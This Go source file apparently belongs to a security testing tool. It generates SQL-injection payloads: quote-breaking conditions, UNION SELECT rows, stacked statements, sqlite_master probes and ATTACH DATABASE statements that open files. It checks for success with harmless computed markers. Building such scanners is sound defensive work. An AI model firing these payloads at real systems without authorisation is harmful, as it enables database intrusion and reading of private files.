package attack

import (
	"fmt"
	"strconv"
	"strings"

	"github.com/mcpsf/mcpsf"
)

func sqlInjection() Class {
	return Class{
		ID:    "sql-injection",
		Title: "A value becomes part of a database query",
		Yield: kinds{
			"query": 75, "id": 70, "name": 70, "unknown": 50, "text": 50, "email": 55, "date": 50, "number": 80,
			"argument": 30, "url": 15, "json": 15, "regexp": 20, "glob": 20, "path": 10, "host": 10,
		}.of,
		Payloads: sqlPayloads,
		Balanced: 12,
	}
}

// sqlAnywhere is the same expression unquoted, in single quotes and in double
// quotes, and leaves every quote and comment closed.
const sqlAnywhere = `1-§/*'||§||'"||§||"*/`

// sqlCondition does the same with a condition.
const sqlCondition = `0 OR §/*' OR § OR '" OR § OR "*/`

// sqlForms make the database compute. The expression itself has no quotes; it
// is a product or a name that does not exist.
func sqlForms() [][2]string {
	return [][2]string{
		{"¤'||§||'", "expression in quotes"},
		{"¤' OR § OR '", "condition in quotes"},
		{"¤') OR § OR ('", "condition in quotes and brackets"},
		{"¤ OR §", "condition"},
		{"1,§", "second column to sort by"},
		{",§", "second column to sort by, no direction"},
		{"(SELECT 1 WHERE §)", "query for a table"},
		{"¤\" OR § OR \"", "condition in double quotes"},
		{"¤') OR § --", "condition in brackets, the rest a comment"},
		{"¤\\' OR § -- ", "quote escaped for the wrong language"},
		{"¤` OR § OR `", "condition in backquotes"},
		{"¤' OR § #", "condition, the rest a comment of MySQL"},
		{"¤'; SELECT § --", "second statement"},
		{"¤; SELECT § --", "second statement, no quotes"},
	}
}

func sqlPayloads(w *World, p Place) []Payload {
	b := &sqlBuilder{w: w, ordinary: p.text()}
	b.fails(sqlAnywhere, "expression in any quoting")
	b.named(sqlAnywhere, "name in any quoting")
	b.union(1)
	b.unknown(sqlAnywhere, "name in any quoting")
	b.all = conditions(b.all, "sql", b.w, sqlCondition, " AND ", "condition in any quoting")
	b.fails("asc,§", "second column to sort by")
	b.fails("sqlite_master WHERE § --", "table and condition")
	b.union(3)
	b.union(4)
	b.union(2)
	for _, n := range []int{5, 6, 7, 8, 9, 10} {
		b.union(n)
	}
	for _, f := range sqlForms() {
		b.fails(f[0], f[1])
		b.named(f[0], f[1])
	}
	b.attach("¤'; ATTACH DATABASE '§' AS x; --")
	b.attach("1; ATTACH DATABASE '§' AS x; --")
	return b.all
}

// sqlSecrets is the first index of the databases that a second statement opens.
const sqlSecrets = 92

// sqlBuilder counts the markers it has used.
type sqlBuilder struct {
	w        *World
	ordinary string
	all      []Payload
	files    int
}

func (b *sqlBuilder) add(value string, sign mcpsf.AttackSign, marker, why string) {
	b.all = append(b.all, Payload{Value: value, Sign: sign, Marker: marker, Why: why})
}

// fails inserts an expression that causes an error with a product in it: SQLite
// prints the invalid JSON path.
func (b *sqlBuilder) fails(form, why string) {
	x, y, product := b.w.Number("sql", len(b.all))
	e := fmt.Sprintf("json_extract(char(123,125),char(120)||(%d*%d))", x, y)
	b.add(fill(form, b.ordinary, e), mcpsf.SignAnswer, strconv.Itoa(product), why+", error with a product")
}

// named inserts a name that is seen in the traffic to a database.
func (b *sqlBuilder) named(form, why string) {
	word := b.w.Word("sql", len(b.all))
	b.add(fill(form, b.ordinary, word), mcpsf.SignQuery, word, why)
}

// unknown inserts an unknown name, which SQLite quotes in its error.
func (b *sqlBuilder) unknown(form, why string) {
	word := b.w.Word("sql", len(b.all))
	b.add(fill(form, b.ordinary, word), mcpsf.SignAnswer, "no such column: "+word, why+", error with its name")
}

// union adds a row with a product in each of its columns.
func (b *sqlBuilder) union(columns int) {
	x, y, product := b.w.Number("sql", len(b.all))
	row := strings.Repeat(fmt.Sprintf(",%d*%d", x, y), columns)[1:]
	form := "-1 UNION SELECT § --' UNION SELECT § --\" UNION SELECT § --"
	b.add(fill(form, "", row), mcpsf.SignAnswer, strconv.Itoa(product), fmt.Sprintf("row of %d more columns in any quoting", columns))
}

// attach opens a file as a second database.
func (b *sqlBuilder) attach(form string) {
	secret := b.w.Secret(sqlSecrets + b.files)
	b.files++
	b.add(fill(form, b.ordinary, secret), mcpsf.SignOpen, secret, "second statement that opens a file")
}
